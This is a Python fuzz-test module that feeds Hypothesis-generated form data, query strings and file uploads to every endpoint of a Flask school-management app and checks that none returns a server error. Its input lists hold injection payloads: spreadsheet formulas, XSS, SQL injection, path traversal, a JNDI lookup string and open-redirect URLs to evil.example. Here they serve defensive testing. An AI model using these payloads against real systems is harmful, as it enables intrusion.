"""Every POST endpoint in app.url_map gets hypothesis-generated form data, and every GET endpoint generated
query strings: never a 500, never a traceback.

Endpoints are found by walking the URL map, so new blueprints are fuzzed as soon as they are registered.
A route that takes an id needs a builder in ID_BUILDERS (argument name -> a function making a real object).
FUZZ_EXAMPLES sets the number of generated cases (default 9,000), split between the targets; the query-string
sweep adds every known-nasty value in every parameter of every page (about 1,700 cases today).
"""

from __future__ import annotations

import io
from collections import Counter
from collections.abc import Callable
from html.parser import HTMLParser

import pyotp
import pytest
from flask import url_for
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app import create_app
from app.extensions import limiter
from app.models import Role
from app.permissions import access_of
from tests import factories, fuzzcount
from tests.conftest import Browser, csrf_token

ASSET_ENDPOINTS = {"static", "bootstrap.static"}
ALLOWED = {200, 302, 303, 400, 403, 404, 405, 409, 413, 429}
#: Most to least powerful: the fuzzer signs in as the first role a view allows, to get past the role check.
ROLE_ORDER = (Role.ADMIN, Role.CEO, Role.EXECUTIVE, Role.HEADTEACHER, Role.SCHOOL_STAFF, Role.TRUSTEE)

#: URL argument name -> a builder returning the id of a real object. Add one for each new kind of id.
def _categorisation():
    return factories.categorise(factories.school(), level=2)


def _dispute():
    from app.extensions import db
    from app.models import CategoryDispute

    row = CategoryDispute(categorisation_id=_categorisation().id, statement="We disagree with the category.")
    db.session.add(row)
    db.session.commit()
    return row


def _allocation():
    from app.models import AllocationStatus, RequestStatus

    request_row = factories.support_request(factories.school(), status=RequestStatus.ACCEPTED)
    return factories.allocation(request_row, factories.register_entry(factories.school()),
                                status=AllocationStatus.PROPOSED)


def _retention_rule():
    from app.extensions import db
    from app.models import RetentionRule

    return db.session.scalar(db.select(RetentionRule).limit(1))


ID_BUILDERS: dict[str, Callable[[], int]] = {
    "school_id": lambda: factories.school().id,
    "user_id": lambda: factories.user(role=Role.EXECUTIVE).id,
    "entry_id": lambda: factories.register_entry(factories.school()).id,
    "nomination_id": lambda: factories.nomination(state="submitted")[0].id,
    "priority_id": lambda: factories.priority(factories.school()).id,
    "request_id": lambda: factories.support_request(factories.school()).id,
    "visit_id": lambda: factories.visit(factories.school()).id,
    "category_id": lambda: factories.scheme().categories[0].id,
    "categorisation_id": lambda: _categorisation().id,
    "dispute_id": lambda: _dispute().id,
    "rule_id": lambda: _retention_rule().id,
    "allocation_id": lambda: _allocation().id,
    "run_id": lambda: _allocation().run_id,
    "fmt": lambda: "csv",
}


def _rules(method: str):
    # A throwaway app, never connected to a database, lists the routes at collection time.
    app = create_app({"APP_ENV": "testing", "SQLALCHEMY_DATABASE_URI": "sqlite://"})
    rules = [r for r in app.url_map.iter_rules() if method in (r.methods or ()) and r.endpoint not in ASSET_ENDPOINTS]
    return sorted(rules, key=lambda r: r.endpoint)


POST_RULES = _rules("POST")
GET_RULES = _rules("GET")
# Shares of the budget: forms 50%, query strings 20%, the importers (test_fuzz_imports.py) 30%.
PER_ENDPOINT = fuzzcount.budget(len(POST_RULES), share=0.50)
PER_GET = fuzzcount.budget(len(GET_RULES), share=0.20)
QUERY_SPECIALS = ["1", "0", "-1", str(2**31), str(2**63), str(10**30), "1.5", "2026-02-30", "9999-12-31",
                  "0001-01-01", "//evil.example", "https://evil.example/", "\\evil", "%2F%2Fevil"]


class _Forms(HTMLParser):
    """Every form on a page: its action and the names (and option values) of its fields."""

    def __init__(self):
        super().__init__()
        self.forms: list[dict] = []
        self._select: str | None = None

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "form":
            self.forms.append({"action": a.get("action") or "", "fields": {}, "files": set()})
        elif self.forms and tag in ("input", "select", "textarea") and a.get("name"):
            if a.get("type") == "file":
                self.forms[-1]["files"].add(a["name"])
            elif a.get("type") != "submit":
                self.forms[-1]["fields"].setdefault(a["name"], [])
            if tag == "select":
                self._select = a["name"]
        elif tag == "option" and self._select and self.forms:
            self.forms[-1]["fields"][self._select].append(a.get("value", ""))

    def handle_endtag(self, tag):
        if tag == "select":
            self._select = None


def _forms(html: str) -> list[dict]:
    parser = _Forms()
    parser.feed(html)
    return parser.forms


HOSTILE = [
    "", " ", "\r\n", "\x00", "a\x00b", "\t=1+1", "\r=1", "=cmd|' /C calc'!A0", "+44 1234", "-1", "@SUM(A1)",
    "=HYPERLINK(\"http://evil.example\",\"click\")", "<script>alert(1)</script>", "\" onmouseover=\"x",
    "' OR '1'='1' --", "../../../etc/passwd", "%00", "%s%s%n", "{{7*7}}", "${jndi:ldap://x}", "A" * 100_000,
    "é" * 20_000, "\u202eevil", "\ufeffURN", "😀" * 50, "0", "-0", "1e309", "NaN", "inf", "-inf",
    "99999999999999999999999999", "-2147483649", "9223372036854775808", "0x10", "1,000", "3.14159265358979",
    "2026-02-30", "0000-00-00", "9999-12-31", "31/12/2026", "2026-13-01", "1969-12-31T23:59:59Z", "true", "on",
    "123456", "000000", "990101", "LA1 1AA", "a@b", "user@trust.example", "admin", "ceo", "headteacher",
]

values = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(max_size=300),
    st.integers(min_value=-(2**70), max_value=2**70).map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(str),
    st.dates().map(str),
    st.binary(max_size=64).map(lambda b: b.decode("latin-1")),
)


def _file_value(draw_bytes: bytes, name: str):
    return (io.BytesIO(draw_bytes), name)


file_values = st.tuples(
    st.one_of(st.binary(max_size=3000), st.sampled_from([b"", b"PK\x03\x04", b"URN,EstablishmentName\n1,=2\n",
                                                         b"\xff\xfe\x00\x00", b"%PDF-1.4"])),
    st.sampled_from(["schools.csv", "schools.xlsx", "schools.pdf", "schools", "", "../../x.csv", "s\x00.csv",
                     "schools.CSV", "a" * 300 + ".csv"]),
)


def _fill_url(rule) -> tuple[str, dict]:
    args = {}
    for name in rule.arguments:
        if name not in ID_BUILDERS:
            pytest.fail(f"{rule.endpoint} takes <{name}>: add a builder for it to ID_BUILDERS in {__file__}")
        args[name] = ID_BUILDERS[name]()
    return url_for(rule.endpoint, **args), args


def _prepare_code_step(browser: Browser) -> None:
    """The code step of signing in only shows its form after a correct password."""
    user = factories.user(role=Role.CEO, totp_secret=pyotp.random_base32(), totp_enabled=True)
    assert browser.login(user.email, factories.PASSWORD).status_code == 302


#: Endpoint -> extra set-up to reach the form (run signed out, before the first case).
PREPARE: dict[str, Callable[[Browser], None]] = {"auth.login_code": _prepare_code_step}


@pytest.mark.slow
@pytest.mark.parametrize("rule", POST_RULES, ids=lambda r: r.endpoint)
def test_post_endpoint_never_fails(app, client, rule, monkeypatch):
    view = app.view_functions[rule.endpoint]
    access = access_of(view)
    assert access is not None, f"{rule.endpoint} declares no access"
    # Let every case reach the form rather than the sign-in throttle (the throttle has its own tests).
    monkeypatch.setitem(app.config, "LOGIN_LIMIT_PER_IP", "1000000 per minute")
    monkeypatch.setitem(app.config, "LOGIN_LIMIT_PER_ACCOUNT", "1000000 per minute")
    limiter.reset()
    browser = Browser(client)
    with app.test_request_context():
        url, args = _fill_url(rule)
        role = None if access.public else next(r for r in ROLE_ORDER if r in access.roles)
        school = factories.school() if role in (Role.HEADTEACHER, Role.SCHOOL_STAFF) else None
        email = factories.user(role=role, school=school).email if role else None

    def sign_in():
        if email:
            response = browser.login(email, factories.PASSWORD)
            assert response.status_code == 302, response.get_data(as_text=True)

    sign_in()
    if rule.endpoint in PREPARE:
        with app.app_context():
            PREPARE[rule.endpoint](browser)

    with app.test_request_context():
        # Where the form lives: its own page, or a page with the same ids that posts to it (else home/sign-in).
        pages = [url] if "GET" in rule.methods else []
        for other in app.url_map.iter_rules():
            if "GET" in other.methods and other.endpoint not in ASSET_ENDPOINTS and other.arguments <= rule.arguments \
                    and other.rule != rule.rule:
                pages.append(url_for(other.endpoint, **{k: args[k] for k in other.arguments}))
    fallback = "/" if email else "/login"

    def fetch(candidate: str):
        page = browser.get(candidate)
        if page.status_code == 302 and "/login" in page.headers.get("Location", "") and email:
            sign_in()  # the previous case signed us out (logout) or ended our session
            page = browser.get(candidate)
        return page

    form_page = fallback
    fields: dict[str, list[str]] = {}
    files: set[str] = set()
    for candidate in pages:
        page = fetch(candidate)
        if page.status_code != 200:
            continue
        for form in _forms(page.get_data(as_text=True)):
            if form["action"] == url or (candidate == url and form["action"] == ""):
                fields.update(form["fields"])
                files |= form["files"]
                form_page = candidate
        if fields or files:
            break

    def token_page() -> str:
        page = fetch(form_page)
        if page.status_code != 200 or b"csrf_token" not in page.data:
            page = fetch(fallback)
        return page.get_data(as_text=True)

    first = token_page()
    token_names = [name for name in fields if name.endswith("csrf_token")] or ["csrf_token"]
    for name in token_names:
        fields.pop(name, None)
    names = sorted(fields)

    @st.composite
    def form_data(draw):
        data = {}
        for name in names:
            if draw(st.integers(0, 9)) == 0:
                continue  # sometimes leave a field out
            options = fields[name]
            data[name] = draw(st.sampled_from(options) if options and draw(st.booleans()) else values)
        data.update(draw(st.dictionaries(st.text(min_size=1, max_size=20), values, max_size=2)))
        for name in files:
            if draw(st.integers(0, 5)):
                data[name] = draw(file_values)
        return data

    token = {"value": csrf_token(first), "fresh": True}

    @settings(max_examples=PER_ENDPOINT, deadline=None, database=None,
              suppress_health_check=list(HealthCheck))
    # Hypothesis favours boundary values, so a middle value stands for "leave the token out" (about 1 in 20).
    @given(data=form_data(), keep_token=st.integers(0, 19).map(lambda n: n != 7))
    def case(data, keep_token):
        if not token["fresh"]:
            token["value"], token["fresh"] = csrf_token(token_page()), True
        body = {k: (_file_value(*v) if isinstance(v, tuple) else v) for k, v in data.items()}
        if keep_token:
            body.update({name: token["value"] for name in token_names})
        response = browser.client.post(url, data=body, content_type="multipart/form-data")
        # The token lives as long as the session; a new one is needed only once the session may have changed.
        token["fresh"] = response.status_code not in (302, 303, 400) and not rule.endpoint.startswith("auth.")
        statuses["csrf" if b"CSRF" in response.data else response.status_code] += 1
        fuzzcount.cases[f"form {rule.endpoint}"] += 1
        if response.status_code >= 500:
            fuzzcount.server_errors[f"form {rule.endpoint}"] += 1
        text = response.get_data()
        assert response.status_code in ALLOWED, (response.status_code, data)
        assert b"Traceback" not in text and b"secret internals" not in text

    statuses: Counter = Counter()
    # Not inside an app context: each request must get its own `g`, as in production.
    case()
    # The cases must mostly reach the view, not stop at the CSRF check.
    assert statuses["csrf"] <= statuses.total() // 3, statuses


@pytest.mark.slow
@pytest.mark.parametrize("rule", GET_RULES, ids=lambda r: r.endpoint)
def test_get_endpoint_never_fails(app, client, rule):
    """Query strings: the page's own GET-form fields (filters, page numbers) and made-up ones."""
    access = access_of(app.view_functions[rule.endpoint])
    browser = Browser(client)
    with app.test_request_context():
        url, _ = _fill_url(rule)
        role = None if access.public else next(r for r in ROLE_ORDER if r in access.roles)
        school = factories.school() if role in (Role.HEADTEACHER, Role.SCHOOL_STAFF) else None
        email = factories.user(role=role, school=school).email if role else None
    if email:
        assert browser.login(email, factories.PASSWORD).status_code == 302
    page = browser.get(url)
    fields: dict[str, list[str]] = {}
    if page.status_code == 200:
        for form in _forms(page.get_data(as_text=True)):
            fields.update(form["fields"])
    names = sorted(set(fields) | {"page", "next", "since", "until", "q"})
    query_values = st.one_of(st.sampled_from(QUERY_SPECIALS), values.filter(lambda v: len(v) < 2000))

    def check(query: dict) -> None:
        response = browser.client.get(url, query_string=query)
        fuzzcount.cases[f"query {rule.endpoint}"] += 1
        if response.status_code >= 500:
            fuzzcount.server_errors[f"query {rule.endpoint}"] += 1
        assert response.status_code in ALLOWED, (response.status_code, query)
        assert b"Traceback" not in response.data

    # Every known-nasty value in every parameter, once each; then random combinations.
    for name in names:
        for special in QUERY_SPECIALS:
            check({name: special})

    @settings(max_examples=PER_GET, deadline=None, database=None, suppress_health_check=list(HealthCheck))
    @given(known=st.fixed_dictionaries({}, optional={name: query_values for name in names}),
           extra=st.dictionaries(st.text(min_size=1, max_size=10), query_values, max_size=2))
    def case(known, extra):
        check({**extra, **known})

    case()
